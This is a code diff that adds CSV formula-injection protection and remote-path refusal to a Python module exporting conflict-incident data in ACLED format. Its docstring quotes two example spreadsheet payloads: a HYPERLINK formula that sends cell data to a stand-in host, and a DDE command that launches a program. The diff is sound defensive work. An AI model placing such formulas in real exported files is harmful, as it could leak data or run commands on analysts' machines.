@@ -1,7 +1,15 @@
-"""Write incidents back out with ACLED's column names: CSV, GeoJSON or GeoPackage."""
+"""Write incidents back out with ACLED's column names: CSV, GeoJSON or GeoPackage.
+
+Threat line for CSV: titles, notes, place and actor names are typed by Editors or come from
+imported files and bulletins; opened in a spreadsheet, a cell such as `=HYPERLINK("http://x/?"
+&A1, "click")` or `=cmd|' /C calc'!A0` would run as a formula on the analyst's machine. Every
+CSV this application writes goes through `csv_row`, which neutralises such cells.
+"""
 import geopandas as gpd
 import pandas as pd
 import shapely
+
+from security.untrusted import refuse_gdal_path
 
 from ..selectors import incidents_for_export
 
@@ -60,19 +68,52 @@ def acled_row(incident) -> dict:
     }
 
 
-def incidents_frame(*, status: str | None = None) -> pd.DataFrame:
-    frame = pd.DataFrame([acled_row(i) for i in incidents_for_export(status=status)], columns=COLUMNS)
+# What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _looks_like_formula(text: str) -> bool:
+    # Leading apostrophes are skipped, so that a text that already starts with "'=" is quoted
+    # again: then `restore_cell` undoes exactly what `neutralise_cell` did, for every text.
+    return text.lstrip("'")[:1] in FORMULA_STARTS
+
+
+def neutralise_cell(value):
+    """A text cell a spreadsheet would run as a formula gets a leading apostrophe (OWASP's
+    advice; the apostrophe itself is not shown by spreadsheets).
+
+    Only text is changed: numbers stay numbers, so a negative longitude (-73.83, a float here)
+    is written as it is and still sorts and sums as a number. A text cell that happens to hold
+    "-3" is quoted, as it would be by any other text."""
+    return "'" + value if isinstance(value, str) and _looks_like_formula(value) else value
+
+
+def restore_cell(text: str) -> str:
+    """The inverse of `neutralise_cell` for a CSV cell read back (import of an export)."""
+    return text[1:] if text.startswith("'") and _looks_like_formula(text) else text
+
+
+def csv_row(incident) -> dict:
+    """`acled_row` with every text cell neutralised for spreadsheets: what CSV files hold."""
+    return {column: neutralise_cell(value) for column, value in acled_row(incident).items()}
+
+
+def incidents_frame(*, status: str | None = None, row=acled_row) -> pd.DataFrame:
+    frame = pd.DataFrame([row(i) for i in incidents_for_export(status=status)], columns=COLUMNS)
     return frame.astype({"fatalities": "Int64", "injuries": "Int64"})
 
 
 def export_incidents(*, path: str, format: str, status: str | None = None) -> int:
-    """Write the incidents to `path`; returns how many."""
+    """Write the incidents to `path`; returns how many. A URL or GDAL virtual file system
+    path (/vsicurl/…) is refused (security.untrusted.UnsafePath): the output is a local file."""
     if format not in FORMATS:
         raise ValueError(f"format {format!r} is not one of {', '.join(FORMATS)}")
-    frame = incidents_frame(status=status)
+    refuse_gdal_path(path)
     if format == "csv":
+        frame = incidents_frame(status=status, row=csv_row)
         frame.to_csv(path, index=False)
         return len(frame)
+    frame = incidents_frame(status=status)
     geometry = shapely.points(frame["longitude"].astype(float), frame["latitude"].astype(float))
     gdf = gpd.GeoDataFrame(frame, geometry=geometry, crs=4326)
     driver = "GeoJSON" if format == "geojson" else "GPKG"
